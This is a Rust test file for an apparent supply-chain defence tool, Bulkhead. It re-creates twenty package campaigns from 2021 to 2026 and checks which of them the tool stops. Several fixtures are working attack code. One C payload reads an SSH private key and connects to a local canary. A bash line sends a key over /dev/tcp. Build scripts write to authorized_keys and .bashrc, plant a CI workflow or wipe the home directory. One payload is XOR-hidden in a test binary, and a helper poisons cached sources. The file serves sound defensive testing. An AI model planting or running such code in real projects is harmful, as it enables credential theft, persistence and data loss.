//! Twenty campaigns of the years 2021 to 2026, from the name that was registered to the payload, as small packages. Each does
//! all that it did to people under `cargo`; what stops it here is named, and what does not is said.

use bulkhead_test_support::{CrateBuilder, GitRepository, Outcome, Registry};

use super::arena::Arena;
use crate::ages::hours_ago;

/// Published so long ago that nobody takes it for new.
const OLD: i64 = 24 * 60;
/// Published this morning.
const FRESH: i64 = 2;

fn package(name: &str, version: &str, hours: i64) -> CrateBuilder {
    CrateBuilder::new(name, version).published_at(&hours_ago(hours)).file("src/lib.rs", "pub fn new() {}\n")
}

fn main_of(name: &str) -> String {
    format!("fn main() {{ {}::new() }}", name.replace('-', "_"))
}

/// The application uses `name`, whose build script insists on its payload.
fn with_build_script(name: &str, version: &str, hours: i64) -> Arena {
    let arena = Arena::new(&format!("{name} = \"1\""), &main_of(name));
    let package = package(name, version, hours).build_script(&arena.build_script());
    arena.stage.registry.publish(package);
    arena
}

/// Under `cargo` the build does what the author wanted; under Bulkhead it ends with what the script of `name` was denied.
#[track_caller]
fn check_confined_build(arena: &Arena, name: &str, parts: &[&str]) {
    arena.assert_bitten(&arena.cargo(&["build"]));
    let denied = format!("the build script of `{name}");
    let expected: Vec<&str> = [&denied, "was denied", ".ssh/id_ed25519", "marks/MARK"].into_iter().collect();
    let outcome = arena.bulkhead_as_it_comes(&["build"]);
    arena.assert_stopped(&outcome, 105, &[&expected, parts].concat());
    check_approved_and_unconfined(arena, &[&denied, "was denied"]);
}

/// The policy by which build code has to be approved, and the one by which it may read and reach what the user can.
const APPROVE: &str = "[build-code]\nlevel = \"approve\"\n";
const ALLOW: &str = "[build-code]\nlevel = \"allow\"\n";

/// Build code that somebody has approved, and granted nothing, is as harmless as before, and it ends the build with `code` and
/// `parts`.
#[track_caller]
fn check_approved(arena: &Arena, code: i32, parts: &[&str]) {
    arena.clear();
    arena.stage.project.write("bulkhead.toml", APPROVE);
    let waiting = arena.bulkhead(&["build"]);
    arena.assert_stopped(&waiting, 102, &["error[build-code-approval]"]);
    arena.bulkhead(&["approve", "--all"]).assert_success();
    let approved = arena.bulkhead(&["build"]);
    arena.assert_stopped(&approved, code, parts);
    std::fs::remove_file(arena.stage.project.path("bulkhead.lock")).unwrap();
}

/// The switch that lifts the confinement shows that it is the confinement which holds the payload, once somebody trusts it.
#[track_caller]
fn unconfined(arena: &Arena, code: i32) -> Outcome {
    arena.stage.project.write("bulkhead.toml", ALLOW);
    let untrusted = arena.bulkhead(&["build"]);
    arena.assert_stopped(&untrusted, code, &["was denied"]);
    arena.bulkhead(&["trust", "--yes", "bulkhead.toml"]).assert_success();
    let outcome = arena.bulkhead(&["build"]);
    std::fs::remove_file(arena.stage.project.path("bulkhead.toml")).unwrap();
    outcome
}

/// Both for a build script.
#[track_caller]
fn check_approved_and_unconfined(arena: &Arena, parts: &[&str]) {
    check_approved(arena, 105, parts);
    let outcome = unconfined(arena, 105);
    assert!(arena.holds_secret("target"), "nothing was found: {outcome}");
    arena.assert_reached(&outcome);
}

/// A program that is run may do what the user can, and does; under `--confined` it gets nothing.
#[track_caller]
fn check_confined_program(arena: &Arena) {
    let confined = arena.bulkhead(&["run", "--confined"]);
    arena.assert_unharmed(&confined);
    arena.assert_bitten(&arena.bulkhead(&["run"]));
}

/// The application uses `name`, whose library has the payload in it.
fn with_library(name: &str, hours: i64, condition: &str) -> Arena {
    let arena = Arena::new(&format!("{name} = \"1\""), &main_of(name));
    let source = format!("{}pub fn new() {{ if {condition} {{ payload(); }} }}\n", arena.payload());
    arena.stage.registry.publish(package(name, "1.0.0", hours).file("src/lib.rs", source));
    arena
}

/// What runs only when the program runs: building it is harmless, and that is all that can be said for building.
#[track_caller]
fn check_harmless_build(arena: &Arena) {
    arena.assert_bitten(&arena.cargo(&["run"]));
    let built = arena.bulkhead_as_it_comes(&["build"]);
    arena.assert_unharmed(&built);
    built.assert_success();
    check_confined_program(arena);
}

/// Nobody whose policy refuses look-alikes gets it, at whatever level of haste.
#[track_caller]
fn check_lookalike(arena: &Arena, name: &str, model: &str) {
    arena.clear();
    let warned = arena.bulkhead_as_it_comes(&["generate-lockfile"]);
    for part in [name, &format!("well-known `{model}`")] {
        assert!(warned.assert_success().stderr.contains(part), "{part:?} is missing: {warned}");
    }
    arena.stage.project.write("bulkhead.toml", "[lookalikes]\nlevel = \"deny\"\n");
    let denied = arena.bulkhead_as_it_comes(&["run", "--locked"]);
    arena.assert_stopped(&denied, 102, &["error[lookalike]", name]);
}

/// rustdecimal, 2022: a look-alike that waits for a CI machine.
#[test]
fn campaign_01_rustdecimal() {
    let arena = with_library("rustdecimal", OLD, "std::env::var_os(\"GITHUB_TOKEN\").is_some()");
    check_harmless_build(&arena);
    check_lookalike(&arena, "rustdecimal", "rust_decimal");
}

/// The amaperf cluster, 2023: empty look-alikes at first, then a build script that reports the machine.
#[test]
fn campaign_02_amaperf() {
    let arena = with_build_script("if-cfg", "1.0.1", OLD);
    arena.stage.registry.publish(package("if-cfg", "1.0.0", OLD * 2));
    check_confined_build(&arena, "if-cfg v1.0.1", &[&format!("127.0.0.1:{}", arena.canaries.tcp_port())]);
    check_lookalike(&arena, "if-cfg", "cfg-if");
}

/// bit-flags and the like, 2023: a look-alike name, the payload in a macro that runs within the compiler.
#[test]
fn campaign_03_look_alike_macros() {
    let arena = Arena::new("bit-flags = \"1\"", "bit_flags::flags!(); fn main() {}");
    let source = format!(
        "{}#[proc_macro]\npub fn flags(_: proc_macro::TokenStream) -> proc_macro::TokenStream {{ \
         assert!(payload(), \"the payload could not do its work\"); proc_macro::TokenStream::new() }}\n",
        arena.payload()
    );
    arena.stage.registry.publish(package("bit-flags", "1.0.0", OLD).proc_macro().file("src/lib.rs", source));
    arena.assert_bitten(&arena.cargo(&["build"]));
    let outcome = arena.bulkhead_as_it_comes(&["build"]);
    // To rustc a macro that fails is an error like any other.
    arena.assert_stopped(&outcome, 101, &["rustc, or a macro that ran in it", "was denied", "marks/MARK"]);
    check_approved(&arena, 101, &["rustc, or a macro that ran in it", "was denied"]);
    arena.assert_reached(&unconfined(&arena, 101));
    check_lookalike(&arena, "bit-flags", "bitflags");
}

/// A library in C that does what the payload does, as far as the mark and one listener; in a folder that is not the package's.
fn planted_library(arena: &Arena) -> std::path::PathBuf {
    let folder = arena.stage.project.outside().join("fetched");
    std::fs::create_dir(&folder).unwrap();
    let source = format!(
        "#include <arpa/inet.h>\n#include <stdio.h>\n#include <sys/socket.h>\nvoid payload(void) {{\n  char loot[99] = \"\";\n  \
         FILE *from = fopen(\"{}\", \"r\");\n  if (from) fgets(loot, sizeof loot, from);\n  \
         struct sockaddr_in to = {{ .sin_family = AF_INET, .sin_port = htons({}), .sin_addr.s_addr = inet_addr(\"127.0.0.1\") }};\n  \
         connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&to, sizeof to);\n  \
         FILE *mark = fopen(\"{}\", \"w\");\n  if (mark) {{ fputs(loot, mark); fclose(mark); }}\n}}\n",
        arena.home().join(".ssh/id_ed25519").display(),
        arena.canaries.tcp_port(),
        arena.mark().display()
    );
    std::fs::write(folder.join("payload.c"), source).unwrap();
    for (program, arguments) in
        [("cc", &["-c", "payload.c", "-o", "payload.o"][..]), ("ar", &["rcs", "libpayload.a", "payload.o"])]
    {
        assert!(std::process::Command::new(program).args(arguments).current_dir(&folder).status().unwrap().success());
    }
    folder
}

/// rands, 2025: a look-alike that links what was fetched from somewhere.
#[test]
fn campaign_04_rands() {
    let arena = Arena::new("rands = \"1\"", &main_of("rands"));
    let planted = planted_library(&arena);
    let script = format!("fn main() {{ println!(\"cargo::rustc-link-search=native={}\"); }}", planted.display());
    let library = "#[link(name = \"payload\", kind = \"static\")] unsafe extern \"C\" { fn payload(); }\n\
                   pub fn new() { unsafe { payload() } }\n";
    arena.stage.registry.publish(package("rands", "1.0.0", OLD).build_script(&script).file("src/lib.rs", library));
    let bitten = |outcome: &Outcome| {
        let loot = std::fs::read_to_string(arena.mark()).unwrap_or_default();
        assert!(loot.contains("s3cr3t-") && arena.canaries.touched() == ["tcp"], "it has to bite: {loot:?} {outcome}");
        arena.clear();
    };
    bitten(&arena.cargo(&["run"]));
    let outcome = arena.bulkhead_as_it_comes(&["run"]);
    let parts = ["error[build-script-directive]", "rands v1.0.0", "rustc-link-search"];
    arena.assert_stopped(&outcome, 102, &parts);
    // Who approves the script has not granted what it says.
    arena.stage.project.write("bulkhead.toml", APPROVE);
    arena.bulkhead(&["approve", "--all"]).assert_success();
    let approved = arena.bulkhead(&["run"]);
    arena.assert_stopped(&approved, 102, &parts);
    // Where policy allows what scripts say, the library is in the program, and does its work where that is not confined.
    arena.stage.project.write("bulkhead.toml", ALLOW);
    let untrusted = arena.bulkhead(&["run"]);
    arena.assert_stopped(&untrusted, 102, &parts);
    arena.bulkhead(&["trust", "--yes", "bulkhead.toml"]).assert_success();
    let confined = arena.bulkhead(&["run", "--confined"]);
    arena.assert_unharmed(confined.assert_success());
    bitten(&arena.bulkhead(&["run"]));
    // The twin: a library that the script itself has made.
    let script = "fn main() { let out = std::env::var(\"OUT_DIR\").unwrap();\n    \
        std::fs::write(format!(\"{out}/payload.c\"), \"void payload(void) {}\").unwrap();\n    \
        let run = |program: &str, words: &[&str]| assert!(std::process::Command::new(program).args(words).current_dir(&out).status().unwrap().success());\n    \
        run(\"cc\", &[\"-c\", \"payload.c\", \"-o\", \"payload.o\"]); run(\"ar\", &[\"rcs\", \"libpayload.a\", \"payload.o\"]);\n    \
        println!(\"cargo::rustc-link-search=native={out}\"); }";
    let twin = Arena::new("rands = \"1\"", &main_of("rands"));
    twin.stage.registry.publish(package("rands", "1.0.0", OLD).build_script(script).file("src/lib.rs", library));
    let outcome = twin.bulkhead_as_it_comes(&["run"]);
    twin.assert_unharmed(outcome.assert_success());
}

/// faster_log and async_println, 2025: working copies that read keys when the program runs. Building is harmless.
#[test]
fn campaign_05_faster_log() {
    check_harmless_build(&with_library("faster_log", OLD, "true"));
}

/// evm-units and uniswap-utils, 2025: a harmless package needs the bad one.
#[test]
fn campaign_06_evm_units() {
    let arena = with_library("evm-units", OLD, "true");
    let outer = package("uniswap-utils", "1.0.0", OLD).dependency("evm-units", "1");
    arena.stage.registry.publish(outer.file("src/lib.rs", "pub fn new() { evm_units::new() }"));
    arena.stage.project.edit("Cargo.toml", "evm-units", "uniswap-utils");
    arena.stage.project.edit("src/main.rs", "evm_units", "uniswap_utils");
    check_harmless_build(&arena);
    // Where the bad one is a new dependency of a new version, `update` names it.
    arena.clear();
    arena.stage.registry.remove("uniswap-utils", "1.0.0");
    arena.stage.registry.publish(package("uniswap-utils", "1.0.0", OLD));
    arena.bulkhead_as_it_comes(&["generate-lockfile"]).assert_success();
    arena.stage.registry.publish(package("uniswap-utils", "1.0.1", OLD).dependency("evm-units", "1"));
    let update = arena.bulkhead_as_it_comes(&["update"]);
    assert!(update.assert_success().stderr.contains("Adding evm-units v1.0.0"), "{update}");
}

/// finch-rust and sha-rust, 2025: the mimic's dependency takes credential files.
#[test]
fn campaign_07_finch() {
    let arena = with_build_script("sha-rust", "1.0.0", OLD);
    let mimic = package("finch-rust", "1.0.0", OLD).dependency("sha-rust", "1");
    arena.stage.registry.publish(mimic.file("src/lib.rs", "pub fn new() { sha_rust::new() }"));
    arena.stage.project.edit("Cargo.toml", "sha-rust", "finch-rust");
    arena.stage.project.edit("src/main.rs", "sha_rust", "finch_rust");
    check_confined_build(&arena, "sha-rust v1.0.0", &[".aws/credentials"]);
}

/// polymarket-…, rpc-check, 2026: uploaded again under a new name after each removal.
#[test]
fn campaign_08_polymarket() {
    for name in ["polymarket-client", "polymarket-clients", "rpc-check"] {
        check_confined_build(&with_build_script(name, "1.0.0", OLD), name, &["project/.env"]);
    }
}

/// time_calibrator and the like, 2026: `.env` to a host that looks like a time service.
#[test]
fn campaign_09_time_calibrator() {
    check_confined_build(&with_build_script("time_calibrator", "1.0.0", OLD), "time_calibrator", &["project/.env"]);
}

/// microsoftsystem64 and pretty-changelog-logger, 2026: a dropper that stays, by `authorized_keys` and start-up files.
#[test]
fn campaign_10_microsoftsystem64() {
    let arena = with_build_script("pretty-changelog-logger", "1.0.0", OLD);
    let home = arena.home().display().to_string();
    let script = format!(
        "{}fn main() {{\n    for path in [\".ssh/authorized_keys\", \".bashrc\"] {{\n        \
         let file = std::fs::File::options().create(true).append(true).open(format!(\"{home}/{{path}}\"));\n        \
         let _ = file.map(|mut file| std::io::Write::write_all(&mut file, b\"evil\\n\"));\n    }}\n    \
         assert!(payload(), \"the payload could not do its work\");\n}}\n",
        arena.payload()
    );
    arena.stage.registry.publish(package("pretty-changelog-logger", "1.0.0", OLD).build_script(&script));
    let outcome = arena.bulkhead_as_it_comes(&["build"]);
    let parts = ["pretty-changelog-logger", "write", ".ssh/authorized_keys", ".bashrc"];
    arena.assert_stopped(&outcome, 105, &parts);
    check_approved_and_unconfined(&arena, &parts);
    arena.assert_bitten(&arena.cargo(&["build"]));
    assert!(arena.home().join(".ssh/authorized_keys").exists(), "it bites under cargo");
}

/// mysten-metrics and other internal names, 2025 and 2026: dependency confusion.
#[test]
fn campaign_11_internal_names() {
    let arena = with_build_script("acme-metrics", "1.9.0", OLD);
    arena.assert_bitten(&arena.cargo(&["build"]));
    check_approved_and_unconfined(&arena, &["the build script of `acme-metrics v1.9.0"]);
    let private = Registry::start();
    private.publish(package("acme-metrics", "1.0.0", OLD));
    arena.stage.home.configure(&format!("[registries.acme]\nindex = \"{}\"\n", private.index_url()));
    arena.stage.project.write("bulkhead.toml", "[[reserve]]\nprefix = \"acme-\"\nregistry = \"acme\"\n");
    arena.stage.registry.clear_requests();
    let outcome = arena.bulkhead_as_it_comes(&["build"]);
    arena.assert_stopped(&outcome, 102, &["error[source-reserved]", "acme-metrics"]);
    let asked = arena.stage.registry.requests();
    assert!(
        asked.iter().all(|request| !request.path.contains("acme")),
        "the public registry learns nothing: {asked:?}"
    );
    // The benign twin: the manifest says which registry it means.
    arena.stage.project.edit("Cargo.toml", "\"1\"", "{ version = \"1\", registry = \"acme\" }");
    let outcome = arena.bulkhead_as_it_comes(&["build"]);
    arena.assert_unharmed(&outcome);
    outcome.assert_success();
}

/// onering, 2026: a new version of a known package takes the project's source. It was online for six hours.
#[test]
fn campaign_12_onering() {
    let arena = with_build_script("onering", "1.4.1", FRESH);
    arena.stage.registry.publish(package("onering", "1.4.0", OLD));
    arena.assert_bitten(&arena.cargo(&["build"]));
    let outcome = arena.bulkhead_as_it_comes(&["build"]);
    arena.assert_unharmed(&outcome);
    assert!(outcome.assert_success().stderr.contains("available: v1.4.1, published 2 hours ago"), "{outcome}");
    // Somebody in a hurry gets it, and it gets nothing.
    arena.clear();
    let hasty = arena.bulkhead(&["build"]);
    arena.assert_stopped(&hasty, 105, &["the build script of `onering v1.4.1`", "project/.env"]);
    check_approved_and_unconfined(&arena, &["the build script of `onering v1.4.1`", "project/.env"]);
}

/// arrayref and proc-macro1, 2026: a patch release needs a new package, the good versions are withdrawn.
#[test]
fn campaign_13_arrayref() {
    let arena = with_build_script("proc-macro1", "1.0.0", FRESH);
    arena.stage.registry.publish(package("arrayref", "1.3.9", OLD));
    arena.stage.project.edit("Cargo.toml", "proc-macro1", "arrayref");
    arena.stage.project.edit("src/main.rs", "proc_macro1", "arrayref");
    arena.bulkhead_as_it_comes(&["generate-lockfile"]).assert_success();
    let locked = arena.stage.project.read("Cargo.lock");
    let patch = package("arrayref", "1.3.10", FRESH).dependency("proc-macro1", "1");
    arena.stage.registry.publish(patch);
    arena.stage.registry.set_yanked("arrayref", "1.3.9", true);
    // What is locked is built, with a word about the withdrawal, and no hurry.
    let outcome = arena.bulkhead_as_it_comes(&["build"]);
    arena.assert_unharmed(&outcome);
    outcome.assert_success();
    assert_eq!(arena.stage.project.read("Cargo.lock"), locked, "{outcome}");
    let update = arena.bulkhead_as_it_comes(&["update"]);
    arena.assert_unharmed(&update);
    assert!(!arena.stage.project.read("Cargo.lock").contains("proc-macro1"), "{update}");
    arena.clear();
    arena.assert_bitten(&arena.cargo(&["build"]));
    let hasty = arena.bulkhead(&["build"]);
    let parts = ["`proc-macro1` may not be the package that you want", "the build script of `proc-macro1 v1.0.0`"];
    arena.assert_stopped(&hasty, 105, &parts);
    check_approved_and_unconfined(&arena, &parts[1..]);
}

/// xz, 2024: the payload lies in binary test files, and the build glue of the archive takes it from there.
#[test]
fn campaign_14_xz() {
    let arena = Arena::new("xz-tools = \"1\"", &main_of("xz-tools"));
    let payload: Vec<u8> = arena.build_script().bytes().map(|byte| byte ^ 0x55).collect();
    let glue = "fn main() {\n    let hidden: Vec<u8> = std::fs::read(\"tests/bad-3.bin\").unwrap().iter().map(|byte| byte ^ 0x55).collect();\n    \
        let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{out}/x.rs\"), hidden).unwrap();\n    \
        let rustc = std::env::var(\"RUSTC\").unwrap();\n    \
        assert!(std::process::Command::new(rustc).args([&format!(\"{out}/x.rs\"), \"-o\", &format!(\"{out}/x\")]).status().unwrap().success());\n    \
        assert!(std::process::Command::new(format!(\"{out}/x\")).status().unwrap().success());\n}\n";
    let package = package("xz-tools", "1.0.0", OLD).file("tests/bad-3.bin", payload);
    arena.stage.registry.publish(package.build_script(glue));
    check_confined_build(&arena, "xz-tools v1.0.0", &[]);
}

/// Shai-Hulud, 2025: takes tokens, publishes itself with them, plants a workflow, wipes the home if it cannot.
#[test]
fn campaign_15_shai_hulud() {
    let arena = Arena::new("worm = \"1\"", &main_of("worm"));
    let (project, home) = (arena.stage.project.root().display().to_string(), arena.home().display().to_string());
    let script = format!(
        "{}fn main() {{\n    let _ = std::fs::create_dir_all(\"{project}/.github/workflows\");\n    \
         let _ = std::fs::write(\"{project}/.github/workflows/worm.yml\", \"on: push\");\n    \
         if !payload() {{ let _ = std::fs::remove_dir_all(\"{home}\"); panic!(\"the payload could not do its work\") }}\n}}\n",
        arena.payload()
    );
    arena.stage.registry.publish(package("worm", "1.0.0", OLD).build_script(&script));
    arena.assert_bitten(&arena.cargo(&["build"]));
    assert!(arena.stage.project.path(".github/workflows/worm.yml").exists(), "it bites under cargo");
    std::fs::remove_dir_all(arena.stage.project.path(".github")).unwrap();
    let outcome = arena.bulkhead_as_it_comes(&["build"]);
    arena.assert_stopped(&outcome, 105, &["the build script of `worm v1.0.0`", "was denied"]);
    assert!(!arena.stage.project.path(".github").exists());
    check_approved_and_unconfined(&arena, &["the build script of `worm v1.0.0`", "was denied"]);
    assert!(!arena.stage.project.path(".github").exists(), "nothing is planted at any level");
}

/// nx, 2025: programs of the user's are put to work.
#[test]
fn campaign_16_nx() {
    use std::os::unix::fs::PermissionsExt as _;
    let arena = Arena::new("nx-tools = \"1\"", &main_of("nx-tools"));
    // Not below `/tmp`, of which every process has its own.
    let place = tempfile::Builder::new().prefix("bin-").tempdir_in("/var/tmp").unwrap();
    let folder = place.path();
    let program = folder.join("assistant");
    let secret = arena.home().join(".ssh/id_ed25519").display().to_string();
    let (port, mark) = (arena.canaries.tcp_port(), arena.mark().display().to_string());
    let text = format!("#!/bin/bash\ncat {secret} > /dev/tcp/127.0.0.1/{port}\ncat {secret} > {mark}\n");
    std::fs::write(&program, text).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let script = "fn main() { assert!(std::process::Command::new(\"assistant\").arg(\"find wallets\").status().unwrap().success()) }";
    arena.stage.registry.publish(package("nx-tools", "1.0.0", OLD).build_script(script));
    let path = format!("{}:{}/bin:/usr/bin:/bin", folder.display(), bulkhead_test_support::sysroot().display());
    arena.command("cargo", &["build"]).env("PATH", &path).run().assert_success();
    assert!(arena.mark().exists() && arena.canaries.touched() == ["tcp"], "it bites under cargo");
    arena.clear();
    let build = || arena.command(crate::stage::BULKHEAD, &["build"]).env("PATH", &path).run();
    let outcome = build();
    arena.assert_stopped(&outcome, 105, &["the build script of `nx-tools v1.0.0`"]);
    arena.stage.project.write("bulkhead.toml", APPROVE);
    arena.bulkhead(&["approve", "--all"]).assert_success();
    let approved = build();
    arena.assert_stopped(&approved, 105, &["the build script of `nx-tools v1.0.0`"]);
    // Where policy allows it, the program is there, and tells what it knows; it still leaves nothing.
    arena.stage.project.write("bulkhead.toml", ALLOW);
    arena.bulkhead(&["trust", "--yes", "bulkhead.toml"]).assert_success();
    let unconfined = build();
    assert_eq!(arena.canaries.touched(), ["tcp"], "it bites: {unconfined}");
    arena.clear();
    arena.assert_unharmed(&unconfined);
    // The twin: a program of the system's.
    let twin = Arena::new("nx-tools = \"1\"", &main_of("nx-tools"));
    let package = package("nx-tools", "1.0.0", OLD).build_script(&script.replace("assistant", "true"));
    twin.stage.registry.publish(package);
    let outcome = twin.bulkhead_as_it_comes(&["build"]);
    twin.assert_unharmed(outcome.assert_success());
}

/// chalk, debug and axios, 2025 and 2026: new versions of packages that everybody uses, online for hours.
#[test]
fn campaign_17_chalk() {
    let arena = with_library("chalk", FRESH, "true");
    arena.stage.registry.publish(package("chalk", "1.0.0-rc.1", OLD));
    arena.stage.project.edit("Cargo.toml", "\"1\"", "\"1.0.0-rc.1\"");
    arena.assert_bitten(&arena.cargo(&["run"]));
    let outcome = arena.bulkhead_as_it_comes(&["run"]);
    arena.assert_unharmed(&outcome);
    assert!(outcome.assert_success().stderr.contains("available: v1.0.0, published 2 hours ago"), "{outcome}");
    // Somebody in a hurry gets it, and whoever runs it runs it.
    arena.clear();
    arena.bulkhead(&["build"]).assert_success();
    check_confined_program(&arena);
}

/// Trivy and others, 2026: tags that are moved to another commit.
#[test]
fn campaign_18_moved_tags() {
    let arena = Arena::new("", "fn main() { action::new() }");
    let manifest = "//- /Cargo.toml\n[package]\nname = \"action\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";
    let repository = GitRepository::new("action", &format!("{manifest}//- /src/lib.rs\npub fn new() {{}}\n"));
    repository.git(&["tag", "v1"]);
    let dependency = format!("[dependencies]\naction = {{ git = \"{}\", tag = \"v1\" }}", repository.url());
    arena.stage.project.edit("Cargo.toml", "[dependencies]\n", &dependency);
    arena.bulkhead_as_it_comes(&["generate-lockfile"]).assert_success();
    let locked = arena.stage.project.read("Cargo.lock");
    repository.commit(&format!("{manifest}//- /build.rs\n{}", arena.build_script()));
    repository.git(&["tag", "--force", "v1"]);
    let outcome = arena.bulkhead_as_it_comes(&["build"]);
    arena.assert_unharmed(&outcome);
    outcome.assert_success();
    assert_eq!(arena.stage.project.read("Cargo.lock"), locked);
    // Who moves along gets the new commit's script, confined like any other.
    arena.clear();
    arena.assert_bitten(&arena.cargo(&["build"]));
    let moved = arena.bulkhead_as_it_comes(&["build"]);
    arena.assert_stopped(&moved, 105, &["the build script of `action v1.0.0", "was denied"]);
    check_approved_and_unconfined(&arena, &["the build script of `action v1.0.0", "was denied"]);
}

/// Attack 129.
/// ultralytics, 2024: the cache of one job poisons the release that another makes. There is no build code to approve, and no
/// switch by which a tree that is not what was verified were used: so what policy says makes no difference.
#[test]
fn campaign_19_ultralytics() {
    let arena = Arena::new("plain = \"1\"", "fn main() { println!(\"{}\", plain::say()) }");
    arena.bulkhead(&["fetch"]).assert_success();
    let stage = &arena.stage;
    let evil = format!("{}pub fn say() -> String {{ payload(); String::new() }}\n", arena.payload());
    for policy in [None, Some(APPROVE), Some(ALLOW)] {
        arena.clear();
        // Nor is it compiled units that are used instead.
        let _ = std::fs::remove_dir_all(stage.home.bulkhead_home().join("cache"));
        if let Some(policy) = policy {
            stage.project.write("bulkhead.toml", policy);
            arena.bulkhead(&["trust", "--yes", "bulkhead.toml"]).assert_success();
        }
        let poisoned = poison(&stage.home.bulkhead_home(), &evil);
        assert!(poisoned > 0, "the source of `plain` is in the store");
        let outcome = arena.bulkhead(&["run"]);
        arena.assert_unharmed(&outcome);
        assert!(outcome.assert_success().stdout.contains("plain 1.1.0"), "{outcome}");
    }
    stage.cargo(&["fetch"]).assert_success();
    assert!(poison(&stage.home.cargo_home(), &evil) > 0);
    arena.clear();
    arena.assert_bitten(&arena.cargo(&["run"]));
}

/// Writes `evil` in the place of every `src/lib.rs` of `plain 1.1.0` below `folder`, with its size and times where it can.
#[expect(clippy::permissions_set_readonly_false, reason = "a file of the test's own")]
fn poison(folder: &std::path::Path, evil: &str) -> usize {
    let (mut pending, mut count) = (vec![folder.to_owned()], 0);
    while let Some(path) = pending.pop() {
        if path.is_dir() {
            pending.extend(std::fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
        } else if path.ends_with("plain-1.1.0/src/lib.rs") {
            let modified = path.metadata().unwrap().modified().unwrap();
            let mut permissions = path.metadata().unwrap().permissions();
            permissions.set_readonly(false);
            std::fs::set_permissions(&path, permissions).unwrap();
            std::fs::write(&path, evil).unwrap();
            std::fs::File::options().append(true).open(&path).unwrap().set_modified(modified).unwrap();
            count += 1;
        }
    }
    count
}

/// boltdb-go, 2021 to 2025: what was published is exchanged after somebody has seen it.
#[test]
fn campaign_20_boltdb() {
    let arena = Arena::new("bolt = \"1\"", &main_of("bolt"));
    arena.stage.registry.publish(package("bolt", "1.0.0", OLD));
    arena.bulkhead_as_it_comes(&["generate-lockfile"]).assert_success();
    arena.stage.registry.publish(package("bolt", "1.0.0", OLD).build_script(&arena.build_script()));
    let outcome = arena.bulkhead_as_it_comes(&["build"]);
    arena.assert_stopped(&outcome, 104, &["bolt", "checksum"]);
    // Nor is it taken because somebody has approved all of the project's build code.
    arena.stage.project.write("bulkhead.toml", APPROVE);
    assert_ne!(arena.bulkhead(&["approve", "--all"]).code(), Some(0));
    let approved = arena.bulkhead(&["build"]);
    arena.assert_stopped(&approved, 104, &["bolt", "checksum"]);
    // No policy takes what is not what was locked: confinement is not what stops this.
    arena.stage.project.write("bulkhead.toml", ALLOW);
    arena.bulkhead(&["trust", "--yes", "bulkhead.toml"]).assert_success();
    let allowed = arena.bulkhead(&["build"]);
    arena.assert_stopped(&allowed, 104, &["bolt", "checksum"]);
    arena.bulkhead(&["trust", "--revoke", "bulkhead.toml"]).assert_success();
    std::fs::remove_file(arena.stage.project.path("bulkhead.toml")).unwrap();
    // Who has never seen the first one gets a script that is confined.
    check_approved_and_unconfined(&arena, &["the build script of `bolt v1.0.0`", "was denied"]);
    arena.assert_bitten(&arena.cargo(&["build"]));
}
